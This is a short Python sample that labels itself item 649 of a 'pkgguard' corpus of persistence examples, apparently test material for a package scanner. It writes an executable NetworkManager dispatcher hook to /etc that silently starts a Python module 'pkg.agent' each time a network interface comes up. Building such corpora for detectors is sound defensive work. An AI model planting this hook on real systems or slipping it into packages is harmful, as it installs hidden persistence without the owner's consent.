# pkgguard corpus 649 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

hook = "/etc/NetworkManager/dispatcher.d/99-netsync"
with open(hook, "w") as fh:
    fh.write("#!/bin/sh\n[ \"$2\" = up ] && %s -m pkg.agent &\n" % sys.executable)
os.chmod(hook, 0o755)
